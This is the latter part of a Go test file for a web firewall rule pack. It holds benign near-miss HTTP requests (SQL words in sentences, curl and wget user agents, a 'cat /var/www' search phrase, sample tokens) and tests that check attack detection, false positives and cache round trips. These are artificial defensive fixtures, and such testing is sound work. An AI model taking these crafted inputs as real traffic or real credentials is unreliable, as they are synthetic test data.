	{"date range", txn{uri: "/reports?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59%2B01:00&tz=Europe%2FBerlin"}},
	{"file name param", txn{uri: "/files?name=annual-report.v2.final.pdf&dir=%2Fusers%2Fanna%2Fdocuments"}},
	{"wechat in-app browser", txn{uri: "/", headers: withHeader("User-Agent", "Mozilla/5.0 (Linux; Android 10; V2001A Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.62 XWEB/2692 MMWEBSDK/200901 Mobile Safari/537.36 MMWEBID/5017 MicroMessenger/6.8.0(0x16080000) Process/toolsmp WeChat/arm64 NetType/WIFI Language/zh_CN ABI/arm64")}},
	{"quoted search terms", txn{uri: "/search?q=" + q(`"sweater dress" and "christmas"`) + "&q2=" + q(`necklace length 16" or 18"`) + "&q3=" + q(`"LIKE" STAMP`)}},
	{"percent composition", txn{uri: "/search?q=" + q("35% cotton and 65% polyester")}},
	{"math expression", txn{uri: "/calc?expr=" + q("(3+4)*2 = 14 and 10 > 9 or 1 < 2")}},
	{"json api post", txn{uri: "/api/v1/orders", body: `{"customer":{"name":"José Müller-Lüdenscheidt","email":"jose.mueller@example.com","phone":"+49 30 1234567"},"items":[{"sku":"ABC-123","qty":2,"price":19.99},{"sku":"XYZ-9","qty":1,"price":5}],"note":"Please deliver after 5pm; ring twice & leave at the door (back entrance). Thanks!","coupon":null,"gift":false}`}},
	{"json with code-like text", txn{uri: "/api/v1/notes", body: `{"title":"Meeting notes","body":"We selected the vendor from the shortlist. Action items: update the wiki; drop the old branch; create a ticket for QA.\nNext: review ${budget} line items","tags":["q3","planning"]}`}},
	{"json template literal", txn{uri: "/api/v1/snippets", body: "{\"lang\":\"js\",\"code\":\"const greet = (name) => `Hello ${name}!`; console.log(greet('world'));\"}"}},
	{"form post punctuation", txn{uri: "/contact", body: "name=O%27Brien%2C+Se%C3%A1n&email=sean%40example.ie&subject=Question+about+order+%2312345&message=Hi%21+I+ordered+2+items+%28a+%26+b%29+on+Monday%3B+only+one+arrived.+Price+was+%2449.99+-+can+you+check%3F+Danke+sch%C3%B6n+%E2%80%94+S."}},
	{"form post multiline text", txn{uri: "/support", body: "ticket=" + q("Hello,\nI cannot log in since yesterday.\nI tried: clearing cookies, another browser.\nfind attached the screenshot.\nsleep mode on my laptop may be related?\nRegards, Anna") + "&priority=normal"}},
	{"login form", txn{uri: "/login", body: "username=anna.schmidt&password=S3cr3t%21%40%23%24%25%5E%26*()_%2B-%3D&remember=on&csrf=9f8e7d6c5b4a"}},
	{"html-ish but safe text", txn{uri: "/api/v1/comments", body: `{"text":"I <3 this product! 5 > 4 and a < b is true. Use <b>bold</b> sparingly."}`}},
	{"graphql", txn{uri: "/graphql", body: `{"query":"query GetUser($id: ID!) { user(id: $id) { id name orders(first: 10) { edges { node { id total } } } } }","variables":{"id":"VXNlcjoxMjM="},"operationName":"GetUser"}`}},
	{"base64 image upload", txn{uri: "/api/v1/avatar", body: `{"image":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`}},
	{"ldap-ish but benign", txn{uri: "/api/v1/settings", body: `{"theme":"dark","locale":"en_US","timezone":"America/New_York","notifications":{"email":true,"sms":false},"homepage":"https://example.com/dashboard?view=compact"}`}},
	{"relative link", txn{uri: "/docs/guide/intro.html?ref=sidebar"}},
	{"api key header", txn{uri: "/api/v1/data", headers: withHeader("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjFlOWdkazcifQ.ewogImlzcyI6ICJodHRwOi8vc2VydmVyLmV4YW1wbGUuY29tIn0.ggW8hZ1EuVLuxNuuIJKX_V8a_OMXzR0EHR9R6jgdqrOOF4daGU96Sr_P6qJp6IcmD3HP99Obi1PRs")}},
	{"mobile app ua", txn{uri: "/api/v2/feed", headers: withHeader("User-Agent", "MyApp/5.12.1 (iPhone; iOS 17.4.1; Scale/3.00) Alamofire/5.8.0")}},
	{"curl ua", txn{uri: "/healthz", headers: withHeader("User-Agent", "curl/8.5.0")}},
	{"response html", txn{uri: "/", resp: "<!doctype html><html><head><title>Shop</title><script src=\"/static/app.js\"></script></head><body onload=\"init()\"><p>Order #1234567890123 shipped on 2024-01-15. Call +1 (555) 123-4567.</p></body></html>"}},
	{"response json numbers", txn{uri: "/api/v1/orders", resp: `{"orders":[{"id":4111111111111112,"tracking":"1Z999AA10123456784","created":1700000000123,"total":"1234.56","phone":"555-123-4567","ref":"000-12-3456","uuid":"123e4567-e89b-12d3-a456-426614174000","iban_like":"DE00 1234 5678 9012 3456 78"}]}`}},
	{"response jwt disabled rule", txn{uri: "/api/login", resp: `{"access_token":"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U","expires_in":3600}`}},
	{"json with dashes and quotes", txn{uri: "/api/v1/reviews", body: `{"title":"Tom's review -- really great!","text":"5/5 -- would buy again; the 'pro' model is #1 in my list.","rating":5}`}},
	{"form with sql words", txn{uri: "/feedback", body: "subject=Select+a+plan&body=" + q("I want to update my plan, delete old invoices from 2022 and insert a note: union members get 10% off? Or not; drop me a line.")}},
	{"basic auth and api headers", txn{uri: "/api/v1/me", headers: append(withHeader("Authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"), [2]string{"X-Request-ID", "3f2b9c1e-8d4a-4f6b-9e2a-1c5d7e8f9a0b"}, [2]string{"X-Forwarded-For", "198.18.0.7, 198.18.0.8"}, [2]string{"Content-Type", "application/json; charset=utf-8"})}},
	{"search with operators", txn{uri: "/search?q=" + q(`"exact phrase" -exclude site:example.com OR (a AND b) | c`)}},
	{"url in parameter", txn{uri: "/share?url=" + q("https://news.example.com/2024/01/15/article-title?ref=home&utm_source=x") + "&title=" + q("Breaking: what's next?")}},
	{"multipart upload", txn{uri: "/upload", body: "--boundary123\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\nContent-Type: text/csv\r\n\r\nid,name,amount\n1,Anna,12.50\n2,\"Müller, Jörg\",7.00\n--boundary123--\r\n"}},
	{"json parentheses and semicolons", txn{uri: "/api/v1/notes", body: `{"note":"call me (after 5pm) or email; thanks! version 2 (beta) is fine","items":["a & b","c | d"]}`}},
	{"search about tools", txn{uri: "/search?q=" + q("how to use curl with a proxy (linux) - cat /var/www permissions?")}},
	{"proxy path headers", txn{uri: "/account", headers: append(withHeader("X-Original-URL", "/account/settings?tab=security"), [2]string{"X-Request-Start", "t=1700000000123"})}},
	{"form select and order words", txn{uri: "/feedback", body: "text=" + q("Please select a size and order by Friday; or call us at 555-0100 (ext. 2).")}},
	{"response mentions aws generically", txn{uri: "/docs", resp: "Set AWS_SECRET_ACCESS_KEY in your environment; never commit it. See https://docs.aws.amazon.com/."}},
	// Near misses of the classes added for the Core Rule Set's regression
	// tests.
	{"alias in a sentence", txn{uri: "/post", body: "text=" + q("I see, so your alias is not = to your name")}},
	{"uname parameter", txn{uri: "/post", body: "uname=john+doe&id=7&sort=time"}},
	{"server localhost without slash", txn{uri: "/get/test?server=localhost"}},
	{"cat slash dog", txn{uri: "/search?q=" + q("cat/dog pictures") + "&view=top"}},
	{"xmp packet", txn{uri: "/upload/pdf", body: "content=" + q(`<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">`)}},
	{"empty dollar braces", txn{uri: "/get?foo=%24%20%7B%20%7D"}},
	{"prices in parentheses", txn{uri: "/post", body: "note=" + q("Costs $5 (approx.) or US$10 (with tax)")}},
	{"northwind company", txn{uri: "/search?q=" + q("Northwind Traders order 10248")}},
	{"drop and update in a sentence", txn{uri: "/post", body: "text=" + q("Or not; drop me a line; update users about it")}},
	{"js snippet", txn{uri: "/api/v1/snippets", body: `{"code":"function() { console.log(1); }; setTimeout(run, 100); module.exports = run;"}`}},
	{"markdown image", txn{uri: "/post", body: "text=" + q("Nice!! ![](https://img.example/a.png) see {a, b}")}},
	{"array index path", txn{uri: "/get?path=" + q("/api/items[0]/name") + "&approx=" + q("~5 minutes")}},
	{"wget user agent", txn{uri: "/healthz", headers: withHeader("User-Agent", "Wget/1.21.4")}},
	{"url with port", txn{uri: "/share?url=" + q("https://example.com:8443/path?a=1")}},
	{"question in quotes", txn{uri: "/post", body: "q=" + q(`what does 'x' ? 'y' mean`)}},
}

func evalTxn(tb testing.TB, c *rules.Compiled, t txn) []*rules.Rule {
	tb.Helper()
	s, err := c.NewScratch()
	if err != nil {
		tb.Fatal(err)
	}
	defer s.Free()
	hits, err := ruletest.EvalValues(c, t.values(), s)
	if err != nil {
		tb.Fatal(err)
	}
	return hits
}

func TestDefaultPackDetects(t *testing.T) {
	c, _ := rules.CompiledPack(t)
	for _, tc := range packAttacks {
		t.Run(tc.name, func(t *testing.T) {
			hits := evalTxn(t, c, tc.t)
			for _, r := range hits {
				if r.Category == tc.category {
					return
				}
			}
			t.Errorf("%s: no %s rule hit %+v (hits: %v)", tc.name, tc.category, tc.t, rules.RuleIDs(hits))
		})
	}
}

func TestDefaultPackNoFalsePositives(t *testing.T) {
	c, _ := rules.CompiledPack(t)
	for _, tc := range packBenign {
		t.Run(tc.name, func(t *testing.T) {
			if hits := evalTxn(t, c, tc.t); len(hits) > 0 {
				for _, r := range hits {
					t.Errorf("%s: rule %d (%s) hit benign traffic %+v", tc.name, r.ID, r.Name, tc.t)
				}
			}
		})
	}
}

// TestCacheRoundTripHits checks that the databases UnmarshalCompiled
// restores find what the compiled ones find.
func TestCacheRoundTripHits(t *testing.T) {
	c, set := rules.CompiledPack(t)
	data, err := c.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	c2, err := rules.UnmarshalCompiled(set, data)
	if err != nil {
		t.Fatal(err)
	}
	defer c2.Close()
	for _, tc := range packAttacks[:20] {
		if a, b := rules.RuleIDs(evalTxn(t, c, tc.t)), rules.RuleIDs(evalTxn(t, c2, tc.t)); !reflect.DeepEqual(a, b) {
			t.Errorf("%s: compiled hits %v, restored %v", tc.name, a, b)
		}
	}
}

func BenchmarkPackEval(b *testing.B) {
	c, _ := rules.CompiledPack(b)
	s := rules.Scratch(b, c)
	f := packBenign[16].t.fields() // the JSON API post
	b.ReportAllocs()
	for b.Loop() {
		if _, err := ruletest.Eval(c, f, s); err != nil {
			b.Fatal(err)
		}
	}
}
